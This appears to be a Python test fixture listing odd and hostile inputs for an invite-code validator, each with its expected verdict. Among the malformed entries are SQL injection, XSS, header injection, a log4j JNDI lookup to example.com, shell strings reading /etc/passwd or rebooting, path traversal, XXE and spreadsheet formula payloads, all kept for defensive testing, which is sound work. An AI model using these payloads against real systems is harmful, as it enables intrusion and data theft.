"""Odd and malicious inputs, each beside the verdict that it must get everywhere.

Each database is compared with what stands here, and so with the others. There is one
code, of which ``CODE`` is the normalized form and which lets in any number of people.
"""

from invite_code.codes import CROCKFORD

CODE = "K1S0ZAB7XQ2GHJMA"

#: A code that is well formed, and that nobody was ever given.
UNKNOWN = "K1S0ZAB7XQ2GHJN8"

MEGABYTE = 2**20


def full_width(text: str) -> str:
    return "".join(chr(ord(symbol) + 0xFEE0) for symbol in text)


def in_digits_from(zero: int) -> str:
    """Return the code with its digits in another script, given its zero."""
    return "".join(chr(zero + int(s)) if s.isdigit() else s for s in CODE)


#: Spellings of the code.
ACCEPTED = {
    "as stored": CODE,
    "lower case": CODE.lower(),
    "mixed case": CODE.swapcase()[:8] + CODE[8:],
    "as shown": "K1S0-ZAB7-XQ2G-HJMA",
    "lower case as shown": "k1s0-zab7-xq2g-hjma",
    "in groups": "K1S0 ZAB7 XQ2G HJMA",
    "in odd groups": "K 1S0ZAB-7XQ2 GHJM A",
    "hyphens at the ends": f"--{CODE}--",
    "blanks at the ends": f"   {CODE}\t ",
    "a line": f"{CODE}\n",
    "a line of Windows": f"{CODE}\r\n",
    "an empty line before": f"\r\n{CODE}",
    "two lines": f"{CODE[:8]}\n{CODE[8:]}",
    "no-break blanks": "K1S0\u00a0ZAB7\u00a0XQ2G\u00a0HJMA",
    "ideographic blanks": f"\u3000{CODE[:8]}\u3000{CODE[8:]}",
    "separators everywhere": " -".join(CODE),
    "hyphens of typesetters": "K1S0\u2010ZAB7\u2010XQ2G\u2010HJMA",
    "no-break hyphens": "K1S0\u2011ZAB7\u2011XQ2G\u2011HJMA",
    "figure dashes": "K1S0\u2012ZAB7\u2012XQ2G\u2012HJMA",
    "en dashes": "K1S0\u2013ZAB7\u2013XQ2G\u2013HJMA",
    "em dashes": "K1S0\u2014ZAB7\u2014XQ2G\u2014HJMA",
    "minus signs": "K1S0\u2212ZAB7\u2212XQ2G\u2212HJMA",
    "capital O for zero": CODE.replace("0", "O"),
    "small o for zero": CODE.replace("0", "o"),
    "capital I for one": CODE.replace("1", "I"),
    "small i for one": CODE.replace("1", "i"),
    "capital L for one": CODE.replace("1", "L"),
    "small l for one": CODE.replace("1", "l"),
    "full width": full_width(CODE),
    "full width, lower case": full_width(CODE.lower()),
    "full width with hyphens": full_width("K1S0-ZAB7-XQ2G-HJMA"),
    "full width look-alikes": full_width(CODE.replace("0", "o").replace("1", "l")),
    "half of it full width": full_width(CODE[:8]) + CODE[8:],
    "as long as a spelling may be": CODE + "-" * 48,
}

#: Codes as they may be, of which there is none.
REFUSED = {
    "unknown": UNKNOWN,
    "unknown in lower case": UNKNOWN.lower(),
    "unknown in groups": "K1S0 ZAB7 XQ2G HJN8",
    "unknown in full width": full_width(UNKNOWN),
    "zeros": "0" * 16,
    "letters O": "O" * 16,
    "full width letters O": "\uff2f" * 16,
}

#: What a form, as all of Django's, strips from the ends; all else takes it for a typo.
STRIPPED = {
    "em space after": f"{CODE}\u2003",
    "thin space before": f"\u2009{CODE}",
    "next line after": f"{CODE}\x85",
    "line separator after": f"{CODE}\u2028",
    "vertical tab after": f"{CODE}\x0b",
    "file separator before": f"\x1c{CODE}",
}

#: No code at all.
MALFORMED = {
    # Nothing.
    "empty": "",
    "blank": " ",
    "blanks": " \t\r\n ",
    "no-break blank": "\u00a0",
    "hyphens": "----",
    "dashes": "\u2014" * 16,
    "zero width space": "\u200b",
    "16 zero width spaces": "\u200b" * 16,
    # Nearly the code.
    "one symbol less": CODE[:-1],
    "the first symbol less": CODE[1:],
    "one symbol more": CODE + "0",
    "one symbol more before": "0" + CODE,
    "a wrong check symbol": CODE[:-1] + "G",
    "check symbol first": CODE[-1] + CODE[:-1],
    "a wrong first symbol": "J" + CODE[1:],
    "a wrong symbol within": CODE[:7] + "8" + CODE[8:],
    "neighbors swapped": "1K" + CODE[2:],
    "last neighbors swapped": CODE[:-2] + "AM",
    "backwards": CODE[::-1],
    "twice": CODE * 2,
    "twice with a blank": f"{CODE} {CODE}",
    "twice with a comma": f"{CODE},{CODE}",
    "underscores": "K1S0_ZAB7_XQ2G_HJMA",
    "dots": "K1S0.ZAB7.XQ2G.HJMA",
    "colons": "K1S0:ZAB7:XQ2G:HJMA",
    "slashes": "K1S0/ZAB7/XQ2G/HJMA",
    "plus signs": "K1S0+ZAB7+XQ2G+HJMA",
    "percent-encoded blanks": "K1S0%20ZAB7%20XQ2G%20HJMA",
    "in double quotes": f'"{CODE}"',
    "in single quotes": f"'{CODE}'",
    "in typographic quotes": f"\u201c{CODE}\u201d",
    "with a full stop": f"{CODE}.",
    "with a label": f"Code: {CODE}",
    "the letter U, which no code has": "U" + CODE[1:],
    "longer than a spelling may be": CODE + "-" * 49,
    "the alphabet": CROCKFORD,
    # Control characters.
    "NUL": "\0",
    "NUL after": f"{CODE}\0",
    "NUL before": f"\0{CODE}",
    "NUL within": f"{CODE[:8]}\0{CODE[8:]}",
    "NUL for a symbol": f"\0{CODE[1:]}",
    "16 times NUL": "\0" * 16,
    "backspace": f"{CODE}0\b",
    "escape sequence": f"\x1b[31m{CODE}\x1b[0m",
    "bell": f"{CODE[:8]}\a{CODE[8:]}",
    "delete": f"{CODE}\x7f",
    "form feed within": f"{CODE[:8]}\f{CODE[8:]}",
    "substitute": f"{CODE}\x1a",
    "header injection": f"{CODE}\r\nSet-Cookie: admin=1",
    "header injection alone": "\r\nLocation: //example.com",
    # What is not seen.
    "zero width space after": f"{CODE}\u200b",
    "zero width space within": f"{CODE[:8]}\u200b{CODE[8:]}",
    "zero width joiner": f"{CODE[:8]}\u200d{CODE[8:]}",
    "zero width non-joiner": f"{CODE[:8]}\u200c{CODE[8:]}",
    "word joiner": f"{CODE[:8]}\u2060{CODE[8:]}",
    "byte order mark": f"\ufeff{CODE}",
    "soft hyphen": f"{CODE[:8]}\u00ad{CODE[8:]}",
    "combining grapheme joiner": f"{CODE[:8]}\u034f{CODE[8:]}",
    "Mongolian vowel separator": f"{CODE}\u180e",
    "Hangul filler": f"{CODE}\u3164",
    "variation selector": f"{CODE}\ufe0f",
    "tag characters": f"{CODE}\U000e0041\U000e007f",
    "Braille blank": f"{CODE}\u2800",
    "em space within": f"{CODE[:8]}\u2003{CODE[8:]}",
    "next line within": f"{CODE[:8]}\x85{CODE[8:]}",
    "line separator within": f"{CODE[:8]}\u2028{CODE[8:]}",
    "right-to-left mark": f"\u200f{CODE}",
    "left-to-right mark": f"{CODE}\u200e",
    "right-to-left override": f"\u202e{CODE[::-1]}",
    "isolate": f"\u2067{CODE}\u2069",
    "embedding": f"\u202b{CODE}\u202c",
    # Lone surrogates and what is no character.
    "high surrogate": "\ud800",
    "low surrogate": "\udfff",
    "high surrogate after": f"{CODE}\ud83d",
    "low surrogate before": f"\ude00{CODE}",
    "surrogate for a symbol": f"\udc4b{CODE[1:]}",
    "surrogates in the wrong order": "\ude00\ud83d",
    "surrogate as of a byte that is no text": f"{CODE}\udcff",
    "replacement character": f"{CODE}\ufffd",
    "noncharacter": f"{CODE}\uffff",
    "last noncharacter": f"{CODE}\U0010ffff",
    "private use": f"{CODE}\ue000",
    # What some function takes for a symbol of the code.
    "Kelvin sign": "\u212a" + CODE[1:],
    "small k of Kelvin's": "\u212a".lower() + "\u0301" + CODE[1:],
    "long s": CODE.replace("S", "\u017f"),
    "sharp s": CODE.replace("S", "\u00df"),
    "capital sharp s": CODE.replace("S", "\u1e9e"),
    "dotless i": CODE.replace("1", "\u0131"),
    "dotted I": CODE.replace("1", "\u0130"),
    "dotted i in two": CODE.replace("1", "i\u0307"),
    "ligature ff": CODE[:-1] + "\ufb00",
    "ligature st": CODE.replace("S0", "\ufb06"),
    "feminine ordinal": CODE.replace("A", "\u00aa"),
    "Angstrom sign": CODE.replace("A", "\u212b"),
    "slashed zero": CODE.replace("0", "\u00d8"),
    "combining slash": CODE.replace("0", "0\u0338"),
    "combining acute": CODE.replace("A", "A\u0301"),
    "A with acute": CODE.replace("A", "\u00c1"),
    "Z with caron": CODE.replace("Z", "\u017d"),
    "many combining marks": CODE + "\u0300" * 40,
    "combining mark first": "\u0301" + CODE,
    "superscript one": CODE.replace("1", "\u00b9"),
    "superscript two": CODE.replace("2", "\u00b2"),
    "subscript two": CODE.replace("2", "\u2082"),
    "circled seven": CODE.replace("7", "\u2466"),
    "circled letter": CODE.replace("K", "\u24c0"),
    "parenthesized letter": CODE.replace("K", "\u24a6"),
    "squared letter": CODE.replace("K", "\U0001f13a"),
    "Roman numeral one": CODE.replace("1", "\u2160"),
    "vulgar fraction": CODE.replace("1", "\u00bd"),
    "mathematical bold": "".join(
        chr(0x1D400 + ord(s) - 65) if s.isalpha() else chr(0x1D7CE + int(s))
        for s in CODE
    ),
    "mathematical double-struck digits": in_digits_from(0x1D7D8),
    "monospace digits": in_digits_from(0x1D7F6),
    "Cyrillic letters": CODE.translate(
        str.maketrans("KSABXHM", "\u041a\u0405\u0410\u0412\u0425\u041d\u041c")
    ),
    "Cyrillic A": CODE.replace("A", "\u0410"),
    "Greek letters": CODE.translate(
        str.maketrans("KZABXHM", "\u039a\u0396\u0391\u0392\u03a7\u0397\u039c")
    ),
    "Greek Kappa": CODE.replace("K", "\u039a"),
    "Cherokee letters": CODE.replace("A", "\u13aa").replace("Z", "\u13c3"),
    "Lisu letters": CODE.replace("K", "\ua4d7"),
    "Arabic digits": in_digits_from(0x0660),
    "Persian digits": in_digits_from(0x06F0),
    "Devanagari digits": in_digits_from(0x0966),
    "Bengali digits": in_digits_from(0x09E6),
    "Thai digits": in_digits_from(0x0E50),
    "Chinese digits": CODE.replace("1", "一").replace("2", "二").replace("7", "七"),
    "NFKC bomb": "\ufdfa" * 4,
    "NFKC bomb after": CODE + "\ufdfa",
    "NFKD bomb": "\u1f82" * 16,
    "growing in upper case": "\u0390" * 16,
    "growing in lower case": "\u0130" * 16,
    "emoji": "\U0001f600" * 16,
    "emoji of a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "flag": "\U0001f1f0" + CODE[1:],
    "Chinese": "邀请码邀请码邀请码邀请码邀请码邀",
    "Arabic": "رمز الدعوة",
    "Zalgo": "".join(symbol + "\u0336\u0489" for symbol in CODE),
    # Texts that some program takes for something else.
    "bytes of Python": f"b'{CODE}'",
    "escapes of bytes": "\\x4b\\x31\\x53\\x30",
    "hexadecimal": "0x4b315330",
    "base64": "SzFTMFpBQjdYUTJHSEpNRg==",
    "SQL that is always true": "' OR '1'='1",
    "SQL comment": f"{CODE}' --",
    "SQL that drops": "'; DROP TABLE invite_code_invitecode; --",
    "SQL union": "' UNION SELECT password FROM auth_user --",
    "SQL that sleeps": "1' AND SLEEP(5) AND '1'='1",
    "SQL of PostgreSQL": "$$; SELECT pg_sleep(5); --",
    "SQL escape": f"{CODE[:8]}\\'{CODE[8:]}",
    "multi-byte quote": "\xbf' OR 1=1 --",
    "wildcard": "%",
    "wildcard after": f"{CODE[:8]}%",
    "wildcards": "_" * 16,
    "wildcard for a symbol": f"{CODE[:-1]}_",
    "escaped wildcard": f"{CODE[:8]}\\%",
    "glob": f"{CODE[:8]}*",
    "regular expression": ".{16}",
    "slow regular expression": "(a+)+$",
    "backslash": "\\",
    "backslashes": "\\" * 16,
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "entity": "&#75;&#49;&#83;&#48;",
    "template": "{{ settings.SECRET_KEY }}",
    "template tag": "{% debug %}",
    "JavaScript": "javascript:alert(1)",
    "closing text area": "</textarea><script>",
    "comment": "<!--",
    "format string": "%s%s%s%n",
    "format with names": "%(code)s",
    "format of Python": "{0.__class__.__mro__}",
    "log4j": "${jndi:ldap://example.com/x}",
    "shell": "$(reboot)",
    "shell pipe": "; cat /etc/passwd |",
    "path": "../../../etc/passwd",
    "path of Windows": "..\\..\\boot.ini",
    "address": "http://example.com/",
    "link with the code": f"https://example.com/invite/?code={CODE}",
    "JSON": f'{{"invite_code": "{CODE}"}}',
    "JSON with an operator": '{"$ne": null}',
    "list": f"['{CODE}']",
    "null": "null",
    "None": "None",
    "true": "true",
    "NaN": "NaN",
    "formula": "=1+1",
    "formula that runs": "=cmd|' /C calc'!A0",
    "formula with an at sign": "@SUM(1+1)*cmd",
    "full width formula": "\uff1d1\uff0b1",
    "number": "1234567890123456",
    "negative number": "-1",
    "float": "1e309",
    "option": "--database",
    "help": "-h",
    "XML": "<?xml version='1.0'?><!DOCTYPE x SYSTEM 'file:///etc/passwd'>",
    "LDAP": "*)(uid=*))(|(uid=*",
    # Much.
    "65 symbols": "0" * 65,
    "256 symbols": "0" * 256,
    "70,000 symbols": "A" * 70_000,
    "a megabyte of symbols": "K" * MEGABYTE,
    "a megabyte of hyphens": "-" * MEGABYTE,
    "a megabyte of hyphens and the code": "-" * MEGABYTE + CODE,
    "a megabyte of blanks": " " * MEGABYTE,
    "a megabyte of combining marks": CODE + "\u0301" * (MEGABYTE // 2),
    "a megabyte of NUL": "\0" * MEGABYTE,
    "a megabyte of bombs": "\ufdfa" * (MEGABYTE // 3),
    "two megabytes of emoji": "\U0001f600" * (MEGABYTE // 2),
    "three megabytes": "K" * (3 * MEGABYTE),
    "five megabytes": "K1S0-" * MEGABYTE,
}

#: All of them, with the verdict of the service and the commands.
VERDICTS = {
    **dict.fromkeys(ACCEPTED.values(), "accepted"),
    **dict.fromkeys(REFUSED.values(), "refused"),
    **dict.fromkeys(STRIPPED.values(), "malformed"),
    **dict.fromkeys(MALFORMED.values(), "malformed"),
}

#: All of them, with the verdict of forms.
FORM_VERDICTS = VERDICTS | dict.fromkeys(STRIPPED.values(), "accepted")

#: The name of each.
NAMES = {
    text: name
    for inputs in (ACCEPTED, REFUSED, STRIPPED, MALFORMED)
    for name, text in inputs.items()
}
